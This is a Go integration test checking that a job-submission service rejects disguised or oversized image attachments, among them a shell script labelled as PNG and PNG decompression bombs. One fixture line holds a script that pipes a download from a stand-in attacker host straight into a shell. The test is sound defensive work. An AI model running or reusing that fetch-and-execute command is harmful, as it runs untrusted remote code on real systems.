package integration

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"image"
	"image/png"
	"testing"

	"github.com/nats-io/nats.go/jetstream"
	"github.com/stretchr/testify/require"

	"github.com/troupe-dev/troupe/internal/imagecheck/imagechecktest"
	"github.com/troupe-dev/troupe/schemas"
)

// TestAttachmentsCheckedByContent: jobs.submit reads what an attachment is
// from its bytes, not its label: a shell script labelled image/png, a
// 30000x30000 PNG bomb and a 16-bit 6300x6300 RGBA PNG (300 KB that
// decode to 318 MB) are refused with an error naming the attachment, and
// nothing is stored or published; alone or in a batch. A real image is
// taken.
func TestAttachmentsCheckedByContent(t *testing.T) {
	t.Parallel()
	d := startDev(t)
	js, err := jetstream.New(d.NC)
	require.NoError(t, err)
	b64 := base64.StdEncoding.EncodeToString
	var small bytes.Buffer
	require.NoError(t, png.Encode(&small, image.NewRGBA(image.Rect(0, 0, 40, 30))))
	good := schemas.Attachment{Name: "diagram.png", MediaType: "image/png", Data: b64(small.Bytes())}

	cases := []struct {
		name string
		att  schemas.Attachment
		want string
	}{
		{"a shell script labelled png", schemas.Attachment{Name: "x.png", MediaType: "image/png", Data: b64([]byte("#!/bin/sh\ncurl http://evil.example | sh\n"))},
			`attachments[2].data: not a supported image: the content is text/plain, not a PNG, JPEG, GIF or WebP image as media_type "image/png" says`},
		{"a png bomb", schemas.Attachment{Name: "bomb.png", MediaType: "image/png", Data: b64(imagechecktest.ZeroPNG(30000, 30000, 1, imagechecktest.Gray))},
			"attachments[2].data: image too large to decode: the image is 30000x30000 pixels; a side may be at most 16384"},
		{"16-bit RGBA", schemas.Attachment{Name: "deep.png", MediaType: "image/png", Data: b64(imagechecktest.ZeroPNG(6300, 6300, 16, imagechecktest.RGBA))},
			"attachments[2].data: image too large to decode: the image is 6300x6300 pixels of 16-bit RGBA, 318 MB decoded; at most 64 MiB may be (models.maxImageBytes)"},
		{"a png labelled jpeg", schemas.Attachment{Name: "photo.jpg", MediaType: "image/jpeg", Data: good.Data},
			`attachments[2].data: not a supported image: the content is an image/png image, but media_type says "image/jpeg"`},
	}
	before := streamSeqs(t, js)
	for _, tc := range cases {
		sub := schemas.Submission{Title: "with images", Tasks: []schemas.PlanTask{{Key: "prd", Role: "pm"}},
			Attachments: []schemas.Attachment{good, {Name: "notes.txt", MediaType: "text/plain", Data: b64([]byte("notes"))}, tc.att}}
		body, err := json.Marshal(sub)
		require.NoError(t, err)
		_, er := d.request("jobs.submit", body)
		require.NotNil(t, er, tc.name)
		require.Equal(t, "invalid_attachment", er.Code, tc.name)
		require.Equal(t, tc.want, er.Error, tc.name)

		batch, err := json.Marshal(map[string]any{"jobs": []any{schemas.Submission{Title: "fine"}, sub}})
		require.NoError(t, err)
		_, er = d.request("jobs.submit_batch", batch)
		require.NotNil(t, er, tc.name)
		require.Len(t, er.Jobs, 1, tc.name)
		require.Equal(t, 1, er.Jobs[0].Index, tc.name)
		require.Equal(t, tc.want, er.Jobs[0].Error, tc.name)
	}
	require.Empty(t, call[schemas.JobList](d, "jobs.list", schemas.ListRequest{}).Jobs, "no job was stored")
	require.Equal(t, before, streamSeqs(t, js), "nothing was published")

	job := call[schemas.Job](d, "jobs.submit", schemas.Submission{Title: "with a real image", Tasks: []schemas.PlanTask{{Key: "prd", Role: "pm"}},
		Attachments: []schemas.Attachment{good}})
	require.NotEmpty(t, job.ID)
}
